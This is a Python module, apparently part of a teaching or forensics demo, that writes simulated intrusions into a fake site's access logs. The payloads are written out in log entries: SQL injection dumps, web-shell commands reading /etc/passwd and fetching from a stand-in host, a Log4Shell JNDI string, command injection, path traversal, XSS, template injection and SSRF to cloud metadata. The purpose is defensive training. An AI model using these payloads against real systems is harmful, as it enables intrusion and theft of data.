"""The incidents of the demo: what each kind of intruder asks of a made-up site. Every payload is our own and inert."""

from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

from delicti.desk.demo.traffic import BROWSERS, DAY, Log

_SCANNER = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
_DUMP = "-7' UNION ALL SELECT NULL,CONCAT(name,0x3a,email,0x3a,phone),NULL FROM customers LIMIT {},10-- -"
_LETTER = "7' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),{},1))>{}-- -"
_TRIED = (
    "/admin.php", "/cgi-bin/test.cgi", "/phpinfo.php", "/.svn/entries", "/console/", "/old/", "/test/", "/db.sql",
    "/config.php.bak", "/web.config", "/shell.php", "/cgi-bin/status?x=()%20{%20:;};%20id",
)  # fmt: skip
Play = Callable[[Log, float, str], None]


@dataclass(frozen=True)
class Kind:
    """A kind of incident: how a case of it is called, what plays it, whether its intruder was ordered by the owner."""

    name: str
    title: str
    play: Play
    ordered: bool = False


def _ask(log: Log, at: float, who: str, target: str, **more: object) -> float:
    log.add(at, who, target, **more)  # type: ignore[arg-type]
    return at + log.draw.uniform(1, 9)


def sql_dump(log: Log, at: float, who: str) -> None:
    """A table read through an injection, page by page."""
    tool = "sqlmap/1.9#stable (https://sqlmap.org)"
    for probe in ("'", "' AND 1=1-- -", "' AND 1=2-- -", "' ORDER BY 6-- -", "' UNION ALL SELECT NULL,NULL,NULL-- -"):
        status = 500 if probe == "'" else 200
        at = _ask(log, at, who, f"/item.php?id=7{quote(probe)}", status=status, size=5_200 + len(probe), agent=tool)
    for row in range(0, 400, 10):
        value = _DUMP.format(row)
        size = 14_000 + log.draw.randrange(4_000)
        at = _ask(log, at, who, f"/item.php?id={quote(value)}", size=size, agent=tool)


def sql_blind(log: Log, at: float, who: str) -> None:
    """A password guessed letter by letter from whether a page comes."""
    for letter in range(1, 9):
        for half in (64, 96, 112, 104):
            value = _LETTER.format(letter, half)
            size = log.draw.choice((5_210, 1_180))
            at = _ask(log, at, who, f"/item.php?id={quote(value)}", size=size, agent=BROWSERS[1])


def web_shell(log: Log, at: float, who: str) -> None:
    """A script uploaded as a picture, and used."""
    at = _ask(log, at, who, "/pictures.php", size=2_900)
    at = _ask(log, at, who, "/pictures.php", method="POST", status=302, size=210)
    for command in ("id", "uname -a", "ls -la /var/www", "cat /etc/passwd", "wget http://drop.example/a.txt"):
        target = f"/uploads/holiday7.php?c={quote(command)}"
        at = _ask(log, at, who, target, size=60 + 30 * len(command), agent="curl/8.5.0")


def defacement(log: Log, at: float, who: str) -> None:
    """The front page replaced through a shell; visitors see it."""
    web_shell(log, at, who)
    at += 120
    command = "echo made-by-the-demo > /var/www/html/index.html"
    at = _ask(log, at, who, f"/uploads/holiday7.php?c={quote(command)}", size=90, agent="curl/8.5.0")
    at = _ask(log, at, who, "/index.html", size=412)
    for _ in range(12):
        log.add(at + log.draw.uniform(60, 9_000), log.address(), "/index.html", size=412)


def stuffing(log: Log, at: float, who: str) -> None:
    """Names and passwords of elsewhere, tried from one address until two fit."""
    for number in range(90):
        good = number in (41, 77)
        log.add(at, who, "/signin.php", method="POST", status=302 if good else 200, size=180 if good else 2_310,
                agent="python-requests/2.31.0")  # fmt: skip
        at += log.draw.uniform(0.4, 2)
        if good:
            at = _ask(log, at, who, "/account.php", size=8_300, agent="python-requests/2.31.0")


def guessing(log: Log, at: float, who: str) -> None:
    """One password guessed; the administrator's pages are read."""
    for number in range(60):
        log.add(at, who, "/admin/login", method="POST", status=302 if number == 59 else 401, size=220)
        at += log.draw.uniform(1, 4)
    for page in ("/admin/", "/admin/users", "/admin/export?what=orders"):
        at = _ask(log, at, who, page, size=14_000 + len(page))


def scanner(log: Log, at: float, who: str) -> None:
    """Everything tried, nothing found."""
    for path in _TRIED * 4:
        at = _ask(log, at, who, path, status=404, size=196, agent=_SCANNER)


def traversal(log: Log, at: float, who: str) -> None:
    """Files outside the site, read through a parameter."""
    for name in ("etc/hostname", "etc/passwd", "proc/self/environ", "var/www/html/config.php", "etc/shadow"):
        bad = name.endswith("shadow")
        target = f"/getfile.php?doc={'../' * 6}{name}"
        at = _ask(log, at, who, target, status=403 if bad else 200, size=240 if bad else 1_900 + 17 * len(name))


def backup(log: Log, at: float, who: str) -> None:
    """A backup that lay open, found by its name and taken."""
    for name in ("site.zip", "www.tar.gz", "db.sql.gz", "dump.sql", "backup.zip"):
        found = name == "backup.zip"
        status, size = (200, 48_200_133) if found else (404, 196)
        at = _ask(log, at, who, f"/{name}", status=status, size=size, agent="Wget/1.21.4")


def git_folder(log: Log, at: float, who: str) -> None:
    """The folder of a version control, read file by file."""
    for name in ("HEAD", "config", "index", "logs/HEAD", "refs/heads/main", "objects/info/packs"):
        at = _ask(log, at, who, f"/.git/{name}", size=120 + 40 * len(name), agent="git-dumper/1.0")
    for _ in range(25):
        digest = f"{log.draw.getrandbits(152):038x}"
        at = _ask(log, at, who, f"/.git/objects/{digest[:2]}/{digest}", size=800, agent="git-dumper/1.0")


def lookup(log: Log, at: float, who: str) -> None:
    """A lookup in headers, for servers that would follow it."""
    value = "${jndi:ldap://192.0.2.66:1389/demo}"
    for page in log.pages[:8]:
        at = _ask(log, at, who, page, agent=value, referrer=value)


def command(log: Log, at: float, who: str) -> None:
    """Commands behind a name of a host."""
    for value in ("127.0.0.1;id", "127.0.0.1|uname -a", "127.0.0.1;cat /etc/passwd", "$(sleep 5)"):
        at = _ask(log, at, who, f"/tools/ping.php?host={quote(value)}", size=700 + 40 * len(value))


def script(log: Log, at: float, who: str) -> None:
    """Script put into a search and a guest book."""
    for value in ("<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "<svg/onload=alert(3)>"):
        at = _ask(log, at, who, f"/search.php?q={quote(value)}", size=3_300 + len(value))
    _ask(log, at, who, "/guestbook.php", method="POST", status=302, size=190)


def template(log: Log, at: float, who: str) -> None:
    """A template engine asked to calculate."""
    for value in ("{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}"):
        at = _ask(log, at, who, f"/hello?name={quote(value)}", size=900 + 13 * len(value))


def inside(log: Log, at: float, who: str) -> None:
    """The server sent to fetch what only it can reach."""
    for value in ("http://127.0.0.1:8080/", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd"):
        at = _ask(log, at, who, f"/preview.php?url={quote(value, safe='')}", size=1_100 + 9 * len(value))


def nothing(log: Log, at: float, who: str) -> None:
    """Nothing but what always happens."""


def test(log: Log, at: float, who: str) -> None:
    """What a tester does whom the owner ordered."""
    sql_blind(log, at, who)
    script(log, at + 900, who)
    traversal(log, at + 1_800, who)


KINDS = (
    Kind("sql-dump", "Customers’ records read through the shop", sql_dump),
    Kind("web-shell", "A script uploaded as a picture", web_shell),
    Kind("stuffing", "Accounts opened with passwords of elsewhere", stuffing),
    Kind("defacement", "The front page replaced", defacement),
    Kind("scanner", "Many strange requests in one night", scanner),
    Kind("traversal", "Files of the server read", traversal),
    Kind("backup", "A backup that lay open was taken", backup),
    Kind("quiet", "A slow site, and the fear of an intrusion", nothing),
    Kind("test", "A test of the site", test, ordered=True),
    Kind("lookup", "Lookups in the log of the application", lookup),
    Kind("sql-blind", "A database asked letter by letter", sql_blind),
    Kind("guessing", "Somebody signed in as the administrator", guessing),
    Kind("git", "The source of the site was copied", git_folder),
    Kind("command", "Commands run through a form", command),
    Kind("script", "Script in the guest book", script),
    Kind("template", "A form that calculates", template),
    Kind("inside", "The server fetched what only it can reach", inside),
)
_SHOP = ("/search.php?q=coat", "/contact.php", "/getfile.php?doc=terms.txt", "/pictures.php", "/signin.php")
_OFFICE = (
    "/search.php?q=form", "/getfile.php?doc=form.txt", "/hello?name=visitor", "/tools/ping.php?host=www.example.com",
    "/preview.php?url=https%3A%2F%2Fwww.example.com", "/team", "/opening-hours",
)  # fmt: skip
PAGES = ("/", "/index.html", *[f"/item.php?id={n}" for n in range(1, 13)], *_SHOP, *_OFFICE)


def play(kind: Kind, log: Log) -> str:
    """Plays an incident somewhere in the middle of a log; gives the intruder's address."""
    who = log.address()
    log.ordinary()
    kind.play(log, log.draw.uniform(0.4, 0.7) * log.days * DAY, who)
    return who
